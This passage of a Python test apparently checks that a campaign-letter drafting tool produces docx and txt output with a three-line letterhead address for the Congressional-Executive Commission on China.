    assert _warnings(campaign, "erc-entity-list-letterhead") == []
    res = CliRunner().invoke(main, ["-C", str(campaign), "draft", "erc-entity-list-letterhead", "--clean",
                                    "--format", "docx", "--format", "txt", "-o", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    check_docx(tmp_path / "out" / f"{STEM}.docx")
    header = zipfile.ZipFile(tmp_path / "out" / f"{STEM}.docx").read("word/header1.xml").decode()
    assert header.count('<w:pStyle w:val="LetterheadAddress"/>') == 3
    assert (tmp_path / "out" / f"{STEM}.txt").read_text().startswith(
        "Congressional-Executive Commission on China\n" + "\n".join(ADDRESS) + "\n\n")
